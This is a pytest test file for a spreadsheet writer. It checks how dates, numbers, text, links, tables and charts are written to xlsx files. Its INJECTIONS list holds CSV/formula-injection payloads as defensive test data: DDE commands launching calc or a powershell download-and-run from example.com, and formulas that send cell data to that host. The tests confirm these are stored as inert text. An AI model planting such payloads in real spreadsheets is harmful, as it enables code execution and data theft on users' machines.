"""Workbooks written, and read again by two libraries: openpyxl for what it is, calamine for what it says."""

import math
import tempfile
from collections.abc import Sequence
from pathlib import Path
from typing import Any
from zipfile import ZipFile

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st
from python_calamine import CalamineWorkbook

from importer.sheet.table import Chart, OutColumn, Page, Panel, Table
from importer.sheet.write_workbook import write_workbook
from importer.sheet.writing import write

NAME = OutColumn("name")
ID = OutColumn("id", "integer", link="https://focus.example/1/workspaces/2/tasks/{}")
COLUMNS = [
    NAME,
    OutColumn("day", "date"),
    OutColumn("at", "instant"),
    OutColumn("count", "integer"),
    OutColumn("share", "number"),
    OutColumn("yes", "boolean"),
]
# Forty ways in which text was made to run in somebody's spreadsheet.
INJECTIONS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "=",
    "==1",
    "=+1",
    "=-1",
    "=@A1",
    "+",
    "-",
    "@",
    "-2+3+cmd|' /C calc'!A0",
    "=cmd|' /C calc'!A0",
    "=cmd|'/C powershell IEX(wget example.com/x)'!A0",
    "+cmd|' /C notepad'!'A1'",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.com?x="&A1,"click")',
    '=IMPORTXML(CONCAT("http://example.com?v=",A1),"//a")',
    '=IMAGE("http://example.com/x.png")',
    '=WEBSERVICE("http://example.com/"&A2)',
    '=DDE("cmd";"/C calc";"x")',
    "=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''",
    '=EXEC("calc")',
    '=CALL("kernel32","WinExec","JFJ","calc",0)',
    '=REGISTER("x","y","z")',
    "{=1+1}",
    "{=SUM(A1:A2)}",
    "=A1:A9",
    "=Tasks[name]",
    "=#REF!",
    "#REF!",
    "#N/A",
    "'=1+1",
    '"=1+1"',
    "＝1+1",
]
HARD = [
    "a\x01b\x0b",
    "_x000D_",
    "_x0001_",
    "_x0041_ _xyz_",
    "_x005F_x0041_",
    "ünï ❤ 𝄞",
    "\r",
    "a\r\nb",
    "line\nline",
    " ",
    "   ",
    "\n",
    "\t\t",
    " before",
    "after ",
    "\xa0",
    "　",
    "\x7f\x85\u2028",
    "x" * 32_767,
    "𝄞" * 16_383 + "a",  # 32,767 units of UTF-16
]


def written(path: Path, *tables: Table, most_rows: int | None = None) -> list[str]:
    if most_rows is None:
        return write(path, tables).notes
    return write_workbook(path, tables, True, most_rows).notes


def column_of(path: Path, sheet: int = 0) -> list[Any]:
    """The first column below the header, as calamine reads it."""
    read = CalamineWorkbook.from_path(path).get_sheet_by_index(sheet)
    return [row[0] for row in read.to_python(skip_empty_area=False)[1:]]


def texts(values: Sequence[str], path: Path) -> list[str]:
    return written(path, Table("Tasks", [NAME], [[value] for value in values]))


# Values


def test_a_workbook_has_real_dates_numbers_and_booleans(tmp_path: Path) -> None:
    path = tmp_path / "t.xlsx"
    rows = [
        ["A", "2026-01-02", "2026-01-02T03:04:05+02:00", 5, 1.5, True],
        ["B", None, None, None, None, False],
    ]
    assert written(path, Table("Tasks", COLUMNS, rows)) == []
    sheet = openpyxl.load_workbook(path)["Tasks"]
    assert [c.value for c in sheet[1]] == [c.title for c in COLUMNS]
    assert [str(c.value) for c in sheet[2]] == [
        "A",
        "2026-01-02 00:00:00",
        "2026-01-02 01:04:05",
        "5",
        "1.5",
        "True",
    ]
    assert [c.data_type for c in sheet[2]] == ["s", "d", "d", "n", "n", "b"]
    formats = [c.number_format for c in sheet[2]]
    assert formats == ["General", "yyyy-mm-dd", "yyyy-mm-dd hh:mm:ss", "0", "General", "General"]
    assert [c.value for c in sheet[3]] == ["B", None, None, None, None, False]


def test_instants_are_in_utc_and_whole_seconds(tmp_path: Path) -> None:
    path = tmp_path / "t.xlsx"
    given_ = [
        "2026-01-02T23:59:59.999999Z",
        "2026-01-02T03:04:05",
        "2026-03-29T02:30:00+02:00",
        "2026-07-01T00:00:00-04:00",
    ]
    written(path, Table("Tasks", [OutColumn("at", "instant")], [[text] for text in given_]))
    shown = [str(row[0].value) for row in openpyxl.load_workbook(path)["Tasks"].iter_rows(min_row=2)]
    assert shown == [
        "2026-01-02 23:59:59",
        "2026-01-02 03:04:05",
        "2026-03-29 00:30:00",
        "2026-07-01 04:00:00",
    ]


def test_dates_that_programs_disagree_on_stand_as_text(tmp_path: Path) -> None:
    path = tmp_path / "t.xlsx"
    days = ["1900-02-28", "1900-03-01", "9999-12-31", "0001-01-01", "soon", "2026-02-30"]
    notes = written(path, Table("Tasks", [OutColumn("day", "date")], [[day] for day in days]))
    cells = [row[0] for row in openpyxl.load_workbook(path)["Tasks"].iter_rows(min_row=2)]
    assert [cell.data_type for cell in cells] == ["s", "d", "d", "s", "s", "s"]
    assert [str(cell.value)[:10] for cell in cells] == days
    assert len(notes) == 1
    assert notes[0].startswith("2 dates ")  # those that are dates


def test_numbers_keep_every_digit_or_are_announced(tmp_path: Path) -> None:
    path = tmp_path / "t.xlsx"
    numbers = [2**53 - 1, 1 - 2**53, 123_456_789_012_345, 0.1 + 0.2, 1e300, 5e-324, -0.5]
    lost = [2**53, math.nan, math.inf]
    for form in ("integer", "number", "text"):
        notes = written(path, Table("Tasks", [OutColumn("n", form)], [[n] for n in numbers + lost]))
        cells = [row[0].value for row in openpyxl.load_workbook(path)["Tasks"].iter_rows(min_row=2)]
        assert cells == [*numbers, "9007199254740992", "nan", "inf"]
        assert [note.split()[0] for note in notes] == ["1", "2"]


def test_values_that_do_not_fit_their_column_are_kept_all_the_same(tmp_path: Path) -> None:
    path = tmp_path / "t.xlsx"
    odd: list[Any] = ["text", True, 7, 1.5, ["a", 1], {"b": None}]
    rows = [[value] * len(COLUMNS) for value in odd]
    written(path, Table("Tasks", COLUMNS, rows))
    sheet = openpyxl.load_workbook(path)["Tasks"]
    for cells, value in zip(sheet.iter_rows(min_row=2), odd, strict=True):
        shown = str(value) if isinstance(value, list | dict) else value
        assert [cell.value for cell in cells] == [shown] * len(COLUMNS)


# Text


def test_text_is_never_a_formula(tmp_path: Path) -> None:
    assert len(set(INJECTIONS)) == 40
    path = tmp_path / "t.xlsx"
    columns = [OutColumn("name"), *COLUMNS[1:]]
    written(path, Table("Tasks", columns, [[text] * len(columns) for text in INJECTIONS]))
    for cells in openpyxl.load_workbook(path)["Tasks"].iter_rows(min_row=2):
        assert {cell.data_type for cell in cells} == {"s"}
    read = CalamineWorkbook.from_path(path).get_sheet_by_index(0).to_python()[1:]
    assert read == [[text] * len(columns) for text in INJECTIONS]
    with ZipFile(path) as book:
        assert b"<f>" not in book.read("xl/worksheets/sheet1.xml")


def test_hard_text_survives(tmp_path: Path) -> None:
    assert texts(HARD, tmp_path / "t.xlsx") == []
    assert column_of(tmp_path / "t.xlsx") == HARD


@given(st.text(min_size=1, alphabet=st.characters(exclude_categories=["Cs"])))
def test_any_text_survives(text: str) -> None:
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "t.xlsx"
        notes = texts([text, "end"], path)
        kept = text.replace("\ufffe", "\ufffd").replace("\uffff", "\ufffd")
        assert column_of(path) == [kept, "end"]
        assert len(notes) == (kept != text)


def test_what_no_workbook_holds_is_announced_with_counts(tmp_path: Path) -> None:
    path = tmp_path / "t.xlsx"
    lost = ["y" * 32_768, "𝄞" * 16_384, "\ud800 alone", "b\udfff", "c\ufffe"]
    notes = texts(lost, path)
    assert column_of(path) == ["y" * 32_767, "𝄞" * 16_383, "\ufffd alone", "b\ufffd", "c\ufffd"]
    assert sorted(note.split(" ", 2)[0] for note in notes) == ["2", "3"]


def test_blank_text_is_an_empty_cell(tmp_path: Path) -> None:
    texts(["", "a"], tmp_path / "t.xlsx")
    assert openpyxl.load_workbook(tmp_path / "t.xlsx")["Tasks"]["A2"].value is None


# Tables


def test_a_sheet_is_a_table_with_a_filter_and_a_frozen_header(tmp_path: Path) -> None:
    path = tmp_path / "t.xlsx"
    written(path, Table("Tasks", [OutColumn("id", "integer"), NAME, NAME], [[1, "a", "b"], [2, "c", "d"]]))
    sheet = openpyxl.load_workbook(path)["Tasks"]
    table = sheet.tables["Tasks"]
    assert (table.ref, table.autoFilter.ref, sheet.auto_filter.ref) == ("A1:C3", "A1:C3", None)
    assert table.tableStyleInfo.name
    assert table.column_names == [cell.value for cell in sheet[1]] == ["id", "name", "name 2"]
    assert (sheet.freeze_panes, sheet.print_title_rows) == ("C2", "$1:$1")


def test_a_name_far_to_the_right_is_not_frozen(tmp_path: Path) -> None:
    columns = [OutColumn(title) for title in ("a", "b", "c", "name")]
    written(tmp_path / "t.xlsx", Table("Tasks", columns, []))
    assert openpyxl.load_workbook(tmp_path / "t.xlsx")["Tasks"].freeze_panes == "A2"


def test_titles_are_made_such_that_a_table_takes_them(tmp_path: Path) -> None:
    path = tmp_path / "t.xlsx"
    titles = ["Name", "name", "NAME 2", " ", "", "two\nlines", "=1+1", "x" * 300, "a\x01", "_x0041_"]
    written(path, Table("Tasks", [OutColumn(title) for title in titles], [["v"] * len(titles)]))
    sheet = openpyxl.load_workbook(path)["Tasks"]
    named = sheet.tables["Tasks"].column_names
    assert len({name.casefold() for name in named}) == len(titles)
    assert all(0 < len(name) <= 255 for name in named)
    assert {cell.data_type for cell in sheet[1]} == {"s"}
    read = CalamineWorkbook.from_path(path).get_sheet_by_index(0).to_python()[0]
    assert [read[0], read[1], read[5], read[6], read[9]] == ["Name", "name 2", "two lines", "=1+1", "_x0041_"]


def test_a_table_without_rows_has_a_blank_one(tmp_path: Path) -> None:
    written(tmp_path / "t.xlsx", Table("Tasks", COLUMNS, []))
    sheet = openpyxl.load_workbook(tmp_path / "t.xlsx")["Tasks"]
    assert sheet.tables["Tasks"].ref == "A1:F2"
    assert column_of(tmp_path / "t.xlsx") in ([], [""])


@pytest.mark.parametrize("rows", [0, 1, 2, 3, 4, 5])
def test_rows_beyond_what_a_sheet_holds_stand_on_further_ones(tmp_path: Path, rows: int) -> None:
    path = tmp_path / "t.xlsx"
    table = Table("Tasks", [NAME], ([f"row {n}"] for n in range(rows)))
    notes = written(path, table, Table("Other", [NAME], [["x"]]), most_rows=2)
    book = openpyxl.load_workbook(path)
    parts = max(1, -(-rows // 2))
    assert book.sheetnames == [*("Tasks", "Tasks 2", "Tasks 3")[:parts], "Other"]
    found = [row[0].value for name in book.sheetnames[:-1] for row in book[name].iter_rows(min_row=2)]
    assert [value for value in found if value] == [f"row {n}" for n in range(rows)]
    tables = [name for sheet in book for name in sheet.tables]
    assert len({name.casefold() for name in tables}) == len(tables) == parts + 1
    assert [note.split()[0] for note in notes] == ([str(rows - 2)] if rows > 2 else [])


def test_a_row_is_one_line_high_whatever_its_text(tmp_path: Path) -> None:
    written(tmp_path / "t.xlsx", Table("Tasks", [NAME], [["one\ntwo"], ["one"]]))
    sheet = openpyxl.load_workbook(tmp_path / "t.xlsx")["Tasks"]
    assert sheet.row_dimensions[2].height == sheet.row_dimensions[3].height < 20
    # the first line is the one to be seen
    assert (sheet["A2"].alignment.wrap_text, sheet["A2"].alignment.vertical) == (True, "top")


# Links


def test_ids_lead_to_the_tasks(tmp_path: Path) -> None:
    path = tmp_path / "t.xlsx"
    written(path, Table("Tasks", [ID, NAME], [[7, "a"], ["none", "b"], [None, "c"], [2**53 + 1, "d"]]))
    sheet = openpyxl.load_workbook(path)["Tasks"]
    links = [row[0].hyperlink and row[0].hyperlink.target for row in sheet.iter_rows(min_row=2)]
    address = "https://focus.example/1/workspaces/2/tasks"
    assert links == [f"{address}/7", None, None, f"{address}/{2**53 + 1}"]
    assert sheet["A2"].value == 7


def test_more_links_than_a_sheet_takes_are_left_out_and_said(tmp_path: Path) -> None:
    path = tmp_path / "t.xlsx"
    notes = written(path, Table("Tasks", [ID], ([n] for n in range(65_533))))
    assert [note.split()[0] for note in notes] == ["3"]
    with ZipFile(path) as book:
        assert book.read("xl/worksheets/sheet1.xml").count(b"<hyperlink ") == 65_530
    assert column_of(path) == list(range(65_533))


# Pages


def page(rows: Sequence[Sequence[Any]]) -> Page:
    columns = [OutColumn("what", width=20), OutColumn("open", "integer"), OutColumn("done", "integer")]
    return Page(
        "Summary",
        title="=All of it",
        says="today",
        figures=[("tasks", 12, "#,##0"), ("hours", 1.5, "0.0")],
        panels=[
            Panel("By kind", columns, rows, Chart("bars", "tasks", ("AAAAAA", "BBBBBB"))),
            Panel("By week", columns, rows, Chart("stack", "tasks", ends=False), wide=True),
        ],
    )


def test_a_page_shows_figures_and_charts_of_its_own_cells(tmp_path: Path) -> None:
    path = tmp_path / "t.xlsx"
    rows = [["a", 1, 2], ["b", 3, 4], ["c", 5, 6]]
    assert written(path, page(rows)) == []
    sheet = openpyxl.load_workbook(path)["Summary"]
    values = [cell.value for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert values[:5] == ["=All of it", "today", "tasks", "hours", 12]
    assert sheet["A1"].data_type == "s"
    assert len(sheet._charts) == 2
    shown = []
    for chart in sheet._charts:
        for series in chart.series:
            shown.append(values_of(sheet, series.val.numRef.f))
            labels = values_of(sheet, series.cat.strRef.f)
            cached = [point.v for point in series.cat.strRef.strCache.pt]
            assert labels == cached == (["b"] if chart.type == "col" else ["a", "b", "c"])
    assert shown == [[1, 3, 5], [2, 4, 6], [3], [4]]
    assert sorted(sheet.tables) == ["By_kind", "By_week"]
    for table in sheet.tables.values():
        assert [cell.value for cell in sheet[table.ref][0]] == table.column_names == ["what", "open", "done"]


def values_of(sheet: Any, place: str) -> list[Any]:
    """The values of a column such as 'Summary'!$A$1:$A$3."""
    left, top, right, bottom = openpyxl.utils.range_boundaries(place.partition("!")[2].replace("$", ""))
    assert left == right
    return [sheet.cell(row, left).value for row in range(top, bottom + 1)]


def test_charts_of_a_page_do_not_overlap(tmp_path: Path) -> None:
    path = tmp_path / "t.xlsx"
    written(path, page([["a", 1, 2]] * 3))
    first, second = (chart.anchor for chart in openpyxl.load_workbook(path)["Summary"]._charts)
    assert first.to.row <= second._from.row


def test_a_page_with_nothing_to_show_says_so(tmp_path: Path) -> None:
    path = tmp_path / "t.xlsx"
    written(path, page([]))
    sheet = openpyxl.load_workbook(path)["Summary"]
    values = [cell.value for row in sheet.iter_rows() for cell in row]
    assert sheet._charts == []
    assert "By kind: nothing to show" in values


# Failure


def test_what_breaks_leaves_nothing_behind(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    aside = tmp_path / "temporary"
    aside.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(aside))

    def rows() -> Any:
        yield ["A"]
        raise RuntimeError("the reading broke")

    with pytest.raises(RuntimeError, match="broke"):
        written(tmp_path / "t.xlsx", Table("First", [NAME], [["a"]]), Table("Tasks", [NAME], rows()))
    assert [path.name for path in tmp_path.iterdir()] == ["temporary"]
    assert list(aside.iterdir()) == []
